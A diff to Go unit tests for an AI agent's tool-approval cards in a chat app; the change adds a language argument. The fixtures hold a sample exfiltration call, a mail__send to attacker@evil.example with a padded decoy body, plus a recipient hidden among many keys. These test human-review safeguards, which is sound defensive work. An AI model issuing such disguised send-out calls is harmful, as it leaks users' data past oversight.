@@ -50,7 +50,7 @@ func TestApprovalCardLongValue(t *testing.T) {
 	body := strings.Repeat("Quarterly report, nothing to see. ", 48)[:1600]
 	args := `{"to":"attacker@evil.example","body":"` + body + `","subject":"Q3"}`
 	ap := &conversation.ToolApproval{ID: "a", UserID: "U1", Tool: conversation.PendingTool{Name: "mail__send", Arguments: args, Reason: conversation.ApprovalDestructive}}
-	c := render.ApprovalCard(key, ap)
+	c := render.ApprovalCard("en", key, ap)
 	shown := c.Blocks[1].Text
 	for _, want := range []string{`"to": "attacker@evil.example"`, `"subject": "Q3"`, `"body": "Quarterly`, "more characters)"} {
 		if !strings.Contains(shown, want) {
@@ -63,7 +63,7 @@ func TestApprovalCardLongValue(t *testing.T) {
 	if last := c.Blocks[len(c.Blocks)-1]; len(last.Buttons) != 2 || last.Buttons[0].Action.Name != conversation.ActionApproveTool {
 		t.Errorf("buttons = %+v; want Approve and Deny", last.Buttons)
 	}
-	f := render.ArgumentsFile(ap.Tool)
+	f := render.ArgumentsFile("en", ap.Tool)
 	if f.Name != "mail__send-arguments.json" || !strings.Contains(string(f.Content), body) || !strings.Contains(string(f.Content), "attacker@evil.example") {
 		t.Errorf("file %q = %s", f.Name, f.Content)
 	}
@@ -79,7 +79,7 @@ func TestApprovalCardTooManyKeys(t *testing.T) {
 	}
 	b.WriteString(`"zz_to":"attacker@evil.example"}`)
 	ap := &conversation.ToolApproval{ID: "a", UserID: "U1", Tool: conversation.PendingTool{Name: "mail__send", Arguments: b.String()}}
-	c := render.ApprovalCard(conversation.Key{ChannelID: "C1", ThreadTS: "1.2"}, ap)
+	c := render.ApprovalCard("en", conversation.Key{ChannelID: "C1", ThreadTS: "1.2"}, ap)
 	last := c.Blocks[len(c.Blocks)-1]
 	if len(last.Buttons) != 1 || last.Buttons[0].Action.Name != conversation.ActionDenyTool {
 		t.Errorf("buttons = %+v; want Deny alone", last.Buttons)
@@ -92,7 +92,7 @@ func TestApprovalCardTooManyKeys(t *testing.T) {
 func TestApprovalCardButtons(t *testing.T) {
 	key := conversation.Key{TeamID: "T1", ChannelID: "C1", ThreadTS: "1.2"}
 	ap := &conversation.ToolApproval{ID: "msg:T1:C1:1.2", UserID: "U1", Tool: conversation.PendingTool{Name: "crm__delete_customer", Arguments: `{}`, Reason: conversation.ApprovalAfterUntrusted}}
-	c := render.ApprovalCard(key, ap)
+	c := render.ApprovalCard("en", key, ap)
 	last := c.Blocks[len(c.Blocks)-1]
 	if last.Kind != conversation.BlockActions || len(last.Buttons) != 2 {
 		t.Fatalf("last block = %+v, want Approve and Deny", last)
